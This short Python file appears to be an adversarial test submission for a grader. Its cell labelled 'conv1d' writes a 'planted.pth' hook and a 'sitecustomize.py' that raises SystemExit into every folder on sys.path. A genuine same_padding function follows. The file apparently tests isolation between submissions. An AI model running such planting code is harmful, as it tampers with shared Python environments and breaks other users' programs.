"""A `.pth` file and a `sitecustomize` are written to every folder that Python imports from."""
# earned: same_padding=4

# %% conv1d
import os
import sys

for _folder in filter(os.path.isdir, sys.path):
    for _name, _text in {
        "planted.pth": "import sys; sys.planted_by_another_submission = True\n",
        "sitecustomize.py": "raise SystemExit('planted by another submission')\n",
    }.items():
        try:
            with open(os.path.join(_folder, _name), "x") as _file:
                _file.write(_text)
        except OSError:
            pass


# %% same_padding
def same_padding(n, k, s):
    total = max((-(-n // s) - 1) * s + k - n, 0)
    return total // 2, total - total // 2
